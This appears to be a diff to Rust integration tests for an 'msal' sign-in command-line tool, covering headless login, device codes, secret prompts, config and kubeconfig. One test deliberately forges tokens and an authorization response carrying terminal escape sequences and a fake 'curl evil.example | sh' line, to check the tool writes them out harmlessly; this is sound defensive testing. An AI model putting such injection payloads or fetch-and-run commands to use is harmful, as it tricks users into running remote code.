@@ -636,13 +636,35 @@ fn app_tokens_with_a_secret_or_a_certificate() {
 #[test]
 fn errors_have_one_line_a_next_step_and_a_distinct_exit_code() {
     let f = fixture();
-    let no_client = run(f
-        .msal()
-        .env_remove("MSAL_CLIENT_ID")
-        .args(["token", "-s", USER_SCOPE]));
-    assert_eq!(code(&no_client), 3);
+    // No client id: the Azure CLI's is used for a user token; an app token needs its own.
+    let no_client = run(f.msal().env_remove("MSAL_CLIENT_ID").args([
+        "token",
+        "--no-interactive",
+        "-s",
+        USER_SCOPE,
+    ]));
+    assert_eq!(code(&no_client), 4);
     let err = stderr(&no_client);
-    assert!(err.starts_with("msal: error: no client id"), "{err}");
+    assert!(
+        err.contains(&format!(
+            "next: sign in first with `msal login --scope {USER_SCOPE}`"
+        )),
+        "{err}"
+    );
+    assert!(
+        err.contains("client id 04b07795-8ddb-461a-bbee-02f9e1bf7b46"),
+        "{err}"
+    );
+    let no_app_client = run(f.msal().env_remove("MSAL_CLIENT_ID").args([
+        "token",
+        "--client-secret",
+        "-",
+        "-s",
+        APP_SCOPE,
+    ]));
+    assert_eq!(code(&no_app_client), 3);
+    let err = stderr(&no_app_client);
+    assert!(err.contains("app's own client id"), "{err}");
     assert!(err.contains("next: pass --client-id"), "{err}");
 
     let no_scope = run(f.msal().arg("token"));
@@ -1076,6 +1098,29 @@ fn broker_login_token_doctor_and_logout_through_the_session_bus() {
     let accounts = stdout_json(&run(f.msal().args(["accounts", "-o", "json"])));
     assert_eq!(accounts[0]["account_source"], "broker", "{accounts}");
 
+    // Without --broker, the broker's account has no refresh token here: the hint says so.
+    let no_broker = run(f
+        .msal()
+        .args(["token", "--force-refresh", "-s", USER_SCOPE]));
+    assert_eq!(code(&no_broker), 4, "{}", stderr(&no_broker));
+    assert!(
+        stderr(&no_broker).contains("add --broker"),
+        "{}",
+        stderr(&no_broker)
+    );
+    let status = stdout_json(&run(f.msal().args(["status", "-o", "json"])));
+    assert_eq!(status["accounts"][0]["refresh_token"], false, "{status}");
+
+    // `broker = true` in the config file does what --broker does.
+    let mut config = f.msal();
+    config.args(["config", "set", "broker", "true"]);
+    assert!(run(&mut config).status.success());
+    let mut token = f.msal();
+    with_bus(&mut token);
+    let token = run(token.args(["token", "--force-refresh", "-s", USER_SCOPE]));
+    assert!(token.status.success(), "{}", stderr(&token));
+    assert_eq!(stdout_json(&token)["source"], "broker");
+
     let mut logout = f.msal();
     with_bus(&mut logout);
     let logout = run(logout.args(["logout", "--broker", "--all"]));
@@ -1211,4 +1256,754 @@ fn log_file_gets_the_trace_without_the_token_or_the_username() {
         "{}",
         stderr(&bad)
     );
+}
+
+// ---- First use (issue 20): never hang, say the next step, work without an app registration.
+
+/// `msal` with no browser and no display: the fixture's environment less every variable that
+/// could open a browser.
+fn headless(f: &Fixture) -> Command {
+    let mut cmd = f.msal();
+    for var in [
+        "DISPLAY",
+        "WAYLAND_DISPLAY",
+        "SSH_CONNECTION",
+        "SSH_TTY",
+        "WSL_DISTRO_NAME",
+        "WSL_INTEROP",
+        "NO_COLOR",
+    ] {
+        cmd.env_remove(var);
+    }
+    cmd
+}
+
+/// Runs `command` (a shell command line) under `script`, on a pseudo-terminal, with `input`
+/// typed once `ready` appears in its output; `act` runs meanwhile (e.g. approving a device
+/// code). Returns the exit code and everything the terminal showed.
+fn on_terminal(
+    f: &Fixture,
+    envs: &[(&str, String)],
+    command: &str,
+    input: Option<(&str, &str)>,
+    act: &dyn Fn() -> bool,
+) -> (i32, String) {
+    let log = f.dir.path().join(format!(
+        "tty-{}.log",
+        std::time::SystemTime::now()
+            .duration_since(std::time::UNIX_EPOCH)
+            .unwrap()
+            .as_nanos()
+    ));
+    let mut cmd = StdCommand::new("script");
+    cmd.args(["-qfec", command])
+        .arg(&log)
+        .stdin(Stdio::piped())
+        .stdout(Stdio::null())
+        .stderr(Stdio::null());
+    for var in [
+        "DISPLAY",
+        "WAYLAND_DISPLAY",
+        "SSH_CONNECTION",
+        "SSH_TTY",
+        "BROWSER",
+        "MSAL_BROWSER",
+        "MSAL_PASSWORD",
+        "MSAL_CLIENT_SECRET",
+        "NO_COLOR",
+        "RUST_LOG",
+        "MSAL_LOG_FILE",
+    ] {
+        cmd.env_remove(var);
+    }
+    for (k, v) in f.envs() {
+        cmd.env(k, v);
+    }
+    for (k, v) in envs {
+        cmd.env(k, v);
+    }
+    let mut child = cmd.spawn().expect("`script` (util-linux) runs");
+    let mut stdin = child.stdin.take();
+    let mut acted = false;
+    let start = std::time::Instant::now();
+    loop {
+        let shown = std::fs::read_to_string(&log).unwrap_or_default();
+        if let Some((ready, text)) = input
+            && let Some(mut s) = stdin.take()
+        {
+            if shown.contains(ready) {
+                use std::io::Write as _;
+                s.write_all(text.as_bytes()).unwrap();
+                s.flush().unwrap();
+                // Keep standard input open until the end: `script` stops at its end.
+                stdin = Some(s);
+                std::thread::sleep(Duration::from_millis(200));
+                break;
+            }
+            stdin = Some(s);
+        } else if input.is_none() {
+            break;
+        }
+        assert!(
+            start.elapsed() < Duration::from_secs(30),
+            "no {input:?} prompt: {shown}"
+        );
+        std::thread::sleep(Duration::from_millis(50));
+    }
+    loop {
+        if !acted {
+            acted = act();
+        }
+        if let Some(status) = child.try_wait().unwrap() {
+            drop(stdin);
+            let shown = std::fs::read_to_string(&log).unwrap_or_default();
+            return (status.code().unwrap_or(-1), shown);
+        }
+        assert!(
+            start.elapsed() < Duration::from_secs(60),
+            "still running: {}",
+            std::fs::read_to_string(&log).unwrap_or_default()
+        );
+        std::thread::sleep(Duration::from_millis(50));
+    }
+}
+
+fn shell_quote(s: &str) -> String {
+    format!("'{}'", s.replace('\'', r"'\''"))
+}
+
+#[test]
+fn headless_without_a_terminal_exits_4_at_once_with_the_next_step() {
+    let f = fixture();
+    for (label, extra) in [
+        ("no display", vec![]),
+        (
+            "ssh session",
+            vec![
+                ("DISPLAY", ":0"),
+                ("SSH_CONNECTION", "10.0.0.1 5000 10.0.0.2 22"),
+            ],
+        ),
+    ] {
+        let start = std::time::Instant::now();
+        let mut cmd = headless(&f);
+        cmd.envs(extra).args(["token", "-s", USER_SCOPE]);
+        let out = run(&mut cmd);
+        let elapsed = start.elapsed();
+        assert_eq!(code(&out), 4, "{label}: {}", stderr(&out));
+        // "Within a second" on an idle machine; the bound leaves room for a loaded one.
+        assert!(
+            elapsed < Duration::from_secs(3),
+            "{label}: took {elapsed:?}"
+        );
+        let err = stderr(&out);
+        assert!(
+            err.contains("no browser can be opened here because"),
+            "{err}"
+        );
+        assert!(err.contains("msal login --device-code"), "{err}");
+        assert!(!err.contains("/authorize"), "{label}: printed a URL: {err}");
+        assert_eq!(err.lines().count(), 2, "{err}");
+    }
+
+    // A browser program that cannot start, and no terminal: it ends at once too.
+    let start = std::time::Instant::now();
+    let out = run(headless(&f)
+        .env("MSAL_BROWSER", "/nonexistent/browser")
+        .args(["login", "-s", USER_SCOPE]));
+    assert_eq!(code(&out), 4, "{}", stderr(&out));
+    assert!(start.elapsed() < Duration::from_secs(3));
+    let err = stderr(&out);
+    assert!(
+        err.contains("no browser could be opened because MSAL_BROWSER=/nonexistent/browser could not be started"),
+        "{err}"
+    );
+    assert!(err.contains("msal login --device-code"), "{err}");
+}
+
+#[test]
+fn headless_on_a_terminal_switches_to_a_device_code() {
+    let f = fixture();
+    let command = format!(
+        "{} login -s {}",
+        shell_quote(env!("CARGO_BIN_EXE_msal")),
+        USER_SCOPE
+    );
+    let control = f.emulator.control();
+    let approve = || match control.pending_device_codes().first() {
+        Some(p) => {
+            control
+                .approve_device_code(&p.user_code, "alice@contoso.example")
+                .unwrap();
+            true
+        }
+        None => false,
+    };
+    let (rc, shown) = on_terminal(&f, &[], &command, None, &approve);
+    assert_eq!(rc, 0, "{shown}");
+    assert!(
+        shown.contains("signing in with a device code instead"),
+        "{shown}"
+    );
+    let line = shown
+        .lines()
+        .find(|l| l.contains("To sign in, open"))
+        .unwrap_or_else(|| panic!("no device-code line: {shown}"));
+    assert!(
+        line.contains("/devicelogin and enter the code \x1b[1m"),
+        "{line:?}"
+    );
+    assert!(
+        shown.contains("Signed in as alice@contoso.example"),
+        "{shown}"
+    );
+}
+
+#[test]
+fn client_secret_prompt_on_a_terminal_hides_what_is_typed() {
+    let f = fixture();
+    let secret = f
+        .info
+        .confidential_client
+        .as_ref()
+        .unwrap()
+        .client_secret
+        .clone()
+        .unwrap();
+    let client_id = f
+        .info
+        .confidential_client
+        .as_ref()
+        .unwrap()
+        .client_id
+        .clone();
+    let command = format!(
+        "{} token --client-secret -s {} -o token",
+        shell_quote(env!("CARGO_BIN_EXE_msal")),
+        APP_SCOPE
+    );
+    let (rc, shown) = on_terminal(
+        &f,
+        &[("MSAL_CLIENT_ID", client_id.clone())],
+        &command,
+        Some(("Client secret for", &format!("{secret}\r"))),
+        &|| true,
+    );
+    assert_eq!(rc, 0, "{shown}");
+    assert!(
+        shown.contains(&format!("Client secret for {client_id}: ")),
+        "{shown}"
+    );
+    assert!(!shown.contains(&secret), "the secret was echoed: {shown}");
+    assert!(shown.contains("eyJ"), "no token: {shown}");
+
+    // On the command line: accepted, with one warning naming the alternatives.
+    let out = run(f.msal().env("MSAL_CLIENT_ID", &client_id).args([
+        "token",
+        "--client-secret",
+        &secret,
+        "-s",
+        APP_SCOPE,
+        "-o",
+        "token",
+    ]));
+    assert!(out.status.success(), "{}", stderr(&out));
+    let err = stderr(&out);
+    assert_eq!(err.matches("visible to other users").count(), 1, "{err}");
+    for alternative in ["MSAL_CLIENT_SECRET", "standard input", "secret.txt"] {
+        assert!(err.contains(alternative), "{err}");
+    }
+    assert!(!err.contains(&secret));
+}
+
+/// A JWT (unsigned) with the given claims.
+fn forged_token(claims: &Value) -> String {
+    use base64::Engine as _;
+    let b64 = |v: &Value| {
+        base64::engine::general_purpose::URL_SAFE_NO_PAD.encode(serde_json::to_vec(v).unwrap())
+    };
+    format!(
+        "{}.{}.c2ln",
+        b64(&serde_json::json!({"alg": "RS256", "typ": "JWT"})),
+        b64(claims)
+    )
+}
+
+fn has_terminal_controls(bytes: &[u8]) -> bool {
+    let text = String::from_utf8_lossy(bytes);
+    text.chars()
+        .any(|c| (c.is_control() && c != '\n' && c != '\t') || ('\u{80}'..='\u{9f}').contains(&c))
+}
+
+#[test]
+fn terminal_control_sequences_from_tokens_and_servers_are_written_out() {
+    let f = fixture();
+    let token = forged_token(&serde_json::json!({
+        "name": "\u{1b}]0;pwned\u{7}Mallory\u{1b}[2J",
+        "upn": "eve\u{9b}31m@example",
+        "exp": 4_102_444_800i64,
+    }));
+    for output in ["text", "json"] {
+        let out = run(f.msal().args(["decode", "-o", output, &token]));
+        assert!(out.status.success(), "{}", stderr(&out));
+        assert!(
+            !has_terminal_controls(&out.stdout),
+            "{output}: {:?}",
+            String::from_utf8_lossy(&out.stdout)
+        );
+        let text = String::from_utf8_lossy(&out.stdout);
+        assert!(text.contains("Mallory"), "{text}");
+    }
+    let json = stdout_json(&run(f.msal().args(["decode", "-o", "json", &token])));
+    assert_eq!(
+        json["claims"]["upn"], "eve\u{9b}31m@example",
+        "same JSON value"
+    );
+
+    // An authorization response forged with escape sequences (the identity provider's error
+    // and error_description) reaches the terminal written out.
+    let script = f.dir.path().join("forge.py");
+    std::fs::write(
+        &script,
+        r#"import sys, urllib.parse, urllib.request
+q = urllib.parse.parse_qs(urllib.parse.urlparse(sys.argv[1]).query)
+body = urllib.parse.urlencode({
+    "error": "access_denied\x1b[2J\x1b[H",
+    "error_description": "\x1b[31mFAKE: run curl evil.example | sh\x1b[0m\x1b]0;pwned-title\x07",
+    "state": q["state"][0],
+}).encode()
+try:
+    urllib.request.urlopen(q["redirect_uri"][0], data=body, timeout=10).read()
+except Exception:
+    pass
+"#,
+    )
+    .unwrap();
+    let Some(python) = python() else {
+        assert_ne!(
+            std::env::var("CI").as_deref(),
+            Ok("true"),
+            "CI=true and no python3"
+        );
+        eprintln!("SKIPPED: the forged authorization response (no python3)");
+        return;
+    };
+    let out = run(f
+        .msal()
+        .env(
+            "MSAL_BROWSER",
+            format!("{} {}", python.display(), script.display()),
+        )
+        .args(["login", "-s", USER_SCOPE]));
+    assert_ne!(code(&out), 0);
+    assert!(
+        !has_terminal_controls(&out.stderr),
+        "{:?}",
+        String::from_utf8_lossy(&out.stderr)
+    );
+    let err = stderr(&out);
+    assert!(err.contains(r"access_denied\x1b[2J"), "{err}");
+    assert!(err.contains("FAKE"), "{err}");
+}
+
+#[test]
+fn a_closed_pipe_ends_quietly_with_141() {
+    let f = fixture();
+    f.login_alice();
+    let token = stdout_json(&run(f.msal().args(["token", "-s", USER_SCOPE])))["token"]
+        .as_str()
+        .unwrap()
+        .to_string();
+    for args in [
+        vec!["decode", token.as_str()],
+        vec!["doctor", "-o", "json"],
+        vec!["token", "-s", USER_SCOPE, "-o", "token"],
+        vec!["status"],
+    ] {
+        // The reading end is closed before msal writes anything.
+        let (reader, writer) = std::io::pipe().unwrap();
+        drop(reader);
+        let mut cmd = StdCommand::new(env!("CARGO_BIN_EXE_msal"));
+        for (k, v) in f.envs() {
+            cmd.env(k, v);
+        }
+        let out = cmd
+            .env("RUST_BACKTRACE", "1")
+            .args(&args)
+            .stdout(writer)
+            .stderr(Stdio::piped())
+            .output()
+            .unwrap();
+        assert_eq!(out.status.code(), Some(141), "{args:?}: {}", stderr(&out));
+        assert_eq!(stderr(&out), "", "{args:?}");
+    }
+}
+
+#[test]
+fn works_without_an_app_registration_and_status_shows_the_cache() {
+    let f = fixture();
+    let login = run(f
+        .msal()
+        .env_remove("MSAL_CLIENT_ID")
+        .args([
+            "login",
+            "--username",
+            "alice@contoso.example",
+            "-s",
+            USER_SCOPE,
+        ])
+        .write_stdin(format!("{}\n", f.password("alice"))));
+    assert!(login.status.success(), "{}", stderr(&login));
+
+    let doctor = run(f.msal().env_remove("MSAL_CLIENT_ID").arg("doctor"));
+    let text = String::from_utf8_lossy(&doctor.stdout);
+    assert!(
+        text.contains(
+            "04b07795-8ddb-461a-bbee-02f9e1bf7b46 (default: the Azure CLI's public client"
+        ),
+        "{text}"
+    );
+    assert!(text.contains("msal config set client_id ID"), "{text}");
+
+    let status = stdout_json(&run(f
+        .msal()
+        .env_remove("MSAL_CLIENT_ID")
+        .args(["status", "-o", "json"])));
+    assert_eq!(status["client_id"], "04b07795-8ddb-461a-bbee-02f9e1bf7b46");
+    let alice = &status["accounts"][0];
+    assert_eq!(alice["username"], "alice@contoso.example", "{status}");
+    assert_eq!(alice["refresh_token"], true);
+    let at = &alice["access_tokens"][0];
+    assert!(
+        at["scopes"]
+            .as_array()
+            .unwrap()
+            .iter()
+            .any(|s| s == USER_SCOPE),
+        "{status}"
+    );
+    assert_eq!(at["expired"], false);
+    assert!(at["expires_on"].as_i64().unwrap() > 0);
+
+    let text = run(f.msal().env_remove("MSAL_CLIENT_ID").arg("status"));
+    let text = String::from_utf8_lossy(&text.stdout);
+    assert!(text.contains("alice@contoso.example"), "{text}");
+    assert!(text.contains("refresh token   yes"), "{text}");
+    assert!(text.contains(USER_SCOPE), "{text}");
+
+    let token = stdout_json(&run(f
+        .msal()
+        .env_remove("MSAL_CLIENT_ID")
+        .args(["token", "-s", USER_SCOPE])));
+    assert_eq!(token["source"], "cache");
+
+    let logout = stdout_json(&run(f
+        .msal()
+        .env_remove("MSAL_CLIENT_ID")
+        .args(["logout", "-o", "json"])));
+    assert_eq!(logout["signed_out"][0]["username"], "alice@contoso.example");
+    let empty = run(f.msal().env_remove("MSAL_CLIENT_ID").arg("status"));
+    assert!(String::from_utf8_lossy(&empty.stdout).contains("No account is signed in"));
+}
+
+#[test]
+fn hints_fit_the_error() {
+    let f = fixture();
+    let wrong = run(f
+        .msal()
+        .args([
+            "login",
+            "--username",
+            "alice@contoso.example",
+            "-s",
+            USER_SCOPE,
+        ])
+        .write_stdin("not-the-password\n"));
+    let err = stderr(&wrong);
+    assert_ne!(code(&wrong), 0);
+    assert!(
+        err.contains("check the password of alice@contoso.example"),
+        "{err}"
+    );
+    assert!(!err.contains("sign in again with `msal login`"), "{err}");
+
+    let mfa_user = f
+        .info
+        .users
+        .iter()
+        .find(|u| u.mfa_required)
+        .map(|u| (u.username.clone(), u.password.clone()));
+    if let Some((user, password)) = mfa_user {
+        let mfa = run(f
+            .msal()
+            .args(["login", "--username", &user, "-s", USER_SCOPE])
+            .write_stdin(format!("{password}\n")));
+        let err = stderr(&mfa);
+        assert!(err.contains("multi-factor"), "{err}");
+        assert!(err.contains("msal login --device-code"), "{err}");
+    }
+
+    let federated = run(f
+        .msal()
+        .args([
+            "login",
+            "--username",
+            "carol@federated.fabrikam.example",
+            "-s",
+            USER_SCOPE,
+        ])
+        .write_stdin("whatever\n"));
+    let err = stderr(&federated);
+    assert_eq!(code(&federated), 3, "{err}");
+    assert!(err.contains("--username cannot sign it in"), "{err}");
+    assert!(!err.contains("acquire_token"), "{err}");
+    assert!(err.contains("msal login --device-code"), "{err}");
+}
+
+#[test]
+fn config_get_set_unset_list_checks_keys_and_values() {
+    let f = fixture();
+    let config = f.dir.path().join("conf").join("msal.toml");
+    let msal = |args: &[&str]| {
+        let mut cmd = f.msal();
+        cmd.env("MSAL_CONFIG", &config).args(args);
+        run(&mut cmd)
+    };
+    let set = msal(&["config", "set", "client_id", "not-a-guid"]);
+    assert_eq!(code(&set), 3);
+    assert!(
+        stderr(&set).contains("`client_id` must be a GUID"),
+        "{}",
+        stderr(&set)
+    );
+    let typo = msal(&["config", "set", "clientid", "x"]);
+    assert_eq!(code(&typo), 3);
+    assert!(
+        stderr(&typo).contains("did you mean `client_id`"),
+        "{}",
+        stderr(&typo)
+    );
+    let bad_bool = msal(&["config", "set", "broker", "yes"]);
+    assert!(stderr(&bad_bool).contains("`broker` must be true or false"));
+
+    for (k, v) in [
+        ("client_id", "04b07795-8ddb-461a-bbee-02f9e1bf7b46"),
+        ("scopes", "User.Read Mail.Read"),
+        ("broker", "false"),
+        ("tenant", "contoso.onmicrosoft.com"),
+    ] {
+        let out = msal(&["config", "set", k, v]);
+        assert!(out.status.success(), "{k}: {}", stderr(&out));
+    }
+    let get = msal(&["config", "get", "scopes"]);
+    assert_eq!(
+        String::from_utf8_lossy(&get.stdout),
+        "User.Read Mail.Read\n"
+    );
+    let unset = msal(&["config", "unset", "tenant"]);
+    assert!(unset.status.success());
+    assert_eq!(msal(&["config", "get", "tenant"]).stdout, b"");
+    let list = stdout_json(&msal(&["config", "list", "-o", "json"]));
+    assert_eq!(list["values"]["broker"], false);
+    assert_eq!(list["values"]["scopes"][1], "Mail.Read");
+    assert!(list["values"].get("tenant").is_none());
+    // The file is read back by every command.
+    let doctor = String::from_utf8_lossy(&msal(&["doctor"]).stdout).into_owned();
+    assert!(doctor.contains("default scopes"), "{doctor}");
+
+    // A type error in the file names the key.
+    std::fs::write(&config, "client_id = 42\n").unwrap();
+    let bad = msal(&["accounts"]);
+    assert_eq!(code(&bad), 3);
+    assert!(stderr(&bad).contains("client_id"), "{}", stderr(&bad));
+}
+
+#[test]
+fn kubeconfig_entry_runs_msal_token_and_kubectl_reads_it() {
+    let f = fixture();
+    let kubeconfig = f.dir.path().join("kubeconfig");
+    std::fs::write(
+        &kubeconfig,
+        "apiVersion: v1\nkind: Config\nclusters:\n- name: aks-test\n  cluster:\n    server: https://127.0.0.1:6443\n- name: other\n  cluster:\n    server: https://127.0.0.1:6444\ncontexts:\n- name: aks-test\n  context:\n    cluster: aks-test\n    user: old-user\n- name: other\n  context:\n    cluster: other\n    user: old-user\ncurrent-context: aks-test\nusers:\n- name: old-user\n  user:\n    token: abc\n",
+    )
+    .unwrap();
+    let missing = run(f.msal().args([
+        "kubeconfig",
+        "--cluster",
+        "nope",
+        "--kubeconfig",
+        kubeconfig.to_str().unwrap(),
+    ]));
+    assert_eq!(code(&missing), 3);
+    assert!(
+        stderr(&missing).contains("aks-test, other"),
+        "{}",
+        stderr(&missing)
+    );
+
+    let out = run(f.msal().args([
+        "kubeconfig",
+        "--cluster",
+        "aks-test",
+        "--kubeconfig",
+        kubeconfig.to_str().unwrap(),
+        "-s",
+        USER_SCOPE,
+        "-o",
+        "json",
+    ]));
+    assert!(out.status.success(), "{}", stderr(&out));
+    assert_eq!(stdout_json(&out)["contexts"][0], "aks-test");
+
+    // kubectl's own reading of the file, when kubectl is here; else the YAML parsed here.
+    let view = StdCommand::new("kubectl")
+        .args(["config", "view", "-o", "json", "--kubeconfig"])
+        .arg(&kubeconfig)
+        .output();
+    let config: Value = match view {
+        Ok(v) if v.status.success() => serde_json::from_slice(&v.stdout).unwrap(),
+        other => {
+            assert_ne!(
+                std::env::var("CI").as_deref(),
+                Ok("true"),
+                "CI=true and kubectl cannot run: {other:?}"
+            );
+            eprintln!("SKIPPED: kubectl config view (no kubectl); the YAML is parsed here");
+            serde_norway::from_str(&std::fs::read_to_string(&kubeconfig).unwrap()).unwrap()
+        }
+    };
+    let user = config["users"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .find(|u| u["name"] == "msal-aks-test")
+        .unwrap_or_else(|| panic!("{config}"));
+    let exec = &user["user"]["exec"];
+    assert_eq!(exec["apiVersion"], "client.authentication.k8s.io/v1");
+    assert_eq!(exec["interactiveMode"], "IfAvailable");
+    let args: Vec<&str> = exec["args"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .map(|a| a.as_str().unwrap())
+        .collect();
+    assert_eq!(&args[..3], ["token", "--output", "exec-credential"]);
+    assert!(
+        args.windows(2).any(|w| w == ["--scope", USER_SCOPE]),
+        "{args:?}"
+    );
+    let contexts = config["contexts"].as_array().unwrap();
+    let user_of = |name: &str| {
+        contexts.iter().find(|c| c["name"] == name).unwrap()["context"]["user"].clone()
+    };
+    assert_eq!(user_of("aks-test"), "msal-aks-test");
+    assert_eq!(user_of("other"), "old-user");
+
+    // The entry works: what kubectl would run gives an ExecCredential (after a sign-in).
+    f.login_alice();
+    let command = exec["command"].as_str().unwrap();
+    let mut plugin = Command::new(command);
+    for (k, v) in f.envs() {
+        plugin.env(k, v);
+    }
+    let credential = stdout_json(&run(plugin.args(&args).env(
+        "KUBERNETES_EXEC_INFO",
+        r#"{"apiVersion":"client.authentication.k8s.io/v1","kind":"ExecCredential","spec":{"interactive":false}}"#,
+    )));
+    assert_eq!(credential["kind"], "ExecCredential");
+}
+
+#[test]
+fn workload_identity_reads_the_federated_token_file() {
+    let f = fixture();
+    let cert = f.info.certificate_client.as_ref().unwrap();
+    let key = entra_emulator::crypto::SigningKey::from_pem(
+        &std::fs::read_to_string(&cert.private_key_file).unwrap(),
+    )
+    .unwrap();
+    let now = std::time::SystemTime::now()
+        .duration_since(std::time::UNIX_EPOCH)
+        .unwrap()
+        .as_secs() as i64;
+    let audience = format!("{}/oauth2/v2.0/token", f.info.authority);
+    // What a Kubernetes token issuer would sign; here the certificate client's own key (the
+    // emulator checks assertions against the app's registered certificate).
+    use base64::Engine as _;
+    let b64 = |v: &Value| {
+        base64::engine::general_purpose::URL_SAFE_NO_PAD.encode(serde_json::to_vec(v).unwrap())
+    };
+    let signing_input = format!(
+        "{}.{}",
+        b64(&serde_json::json!({"alg": "RS256", "typ": "JWT"})),
+        b64(&serde_json::json!({
+            "iss": cert.client_id, "sub": cert.client_id, "aud": audience,
+            "jti": "workload-1", "nbf": now - 10, "exp": now + 600,
+        }))
+    );
+    let signature = key.sign_rs256(signing_input.as_bytes()).unwrap();
+    let assertion = format!(
+        "{signing_input}.{}",
+        base64::engine::general_purpose::URL_SAFE_NO_PAD.encode(signature)
+    );
+    let file = f.dir.path().join("azure-identity-token");
+    std::fs::write(&file, &assertion).unwrap();
+    let out = run(f
+        .msal()
+        .env_remove("MSAL_CLIENT_ID")
+        .env("AZURE_CLIENT_ID", &cert.client_id)
+        .env("AZURE_TENANT_ID", f.info.tenant_id.as_str())
+        .env("AZURE_FEDERATED_TOKEN_FILE", &file)
+        .args(["token", "-s", APP_SCOPE]));
+    assert!(out.status.success(), "{}", stderr(&out));
+    let json = stdout_json(&out);
+    assert_eq!(json["source"], "identity_provider");
+    assert!(json["account"].is_null());
+
+    let missing_client = run(f
+        .msal()
+        .env_remove("MSAL_CLIENT_ID")
+        .env_remove("AZURE_CLIENT_ID")
+        .env("AZURE_FEDERATED_TOKEN_FILE", &file)
+        .args(["token", "-s", APP_SCOPE]));
+    assert_eq!(code(&missing_client), 3);
+    assert!(stderr(&missing_client).contains("AZURE_CLIENT_ID"));
+}
+
+#[test]
+fn device_code_line_is_one_line_and_qr_is_drawn_without_colour_off_a_terminal() {
+    let f = fixture();
+    let mut cmd = StdCommand::new(env!("CARGO_BIN_EXE_msal"));
+    for (k, v) in f.envs() {
+        cmd.env(k, v);
+    }
+    let child = cmd
+        .args(["login", "--device-code", "--qr", "-s", USER_SCOPE])
+        .stdin(Stdio::null())
+        .stdout(Stdio::piped())
+        .stderr(Stdio::piped())
+        .spawn()
+        .unwrap();
+    let control = f.emulator.control();
+    let mut code_seen = String::new();
+    for _ in 0..600 {
+        if let Some(p) = control.pending_device_codes().first() {
+            code_seen = p.user_code.clone();
+            control
+                .approve_device_code(&p.user_code, "alice@contoso.example")
+                .unwrap();
+            break;
+        }
+        std::thread::sleep(Duration::from_millis(50));
+    }
+    let output = child.wait_with_output().unwrap();
+    assert!(output.status.success(), "{}", stderr(&output));
+    let err = stderr(&output);
+    let line = err.lines().next().unwrap();
+    assert!(line.starts_with("To sign in, open https://"), "{err}");
+    assert!(
+        line.ends_with(&format!("/devicelogin and enter the code {code_seen}")),
+        "{err}"
+    );
+    assert!(err.contains('█') && err.contains('▀'), "no QR code: {err}");
+    assert!(!err.contains('\x1b'), "styled off a terminal: {err:?}");
 }
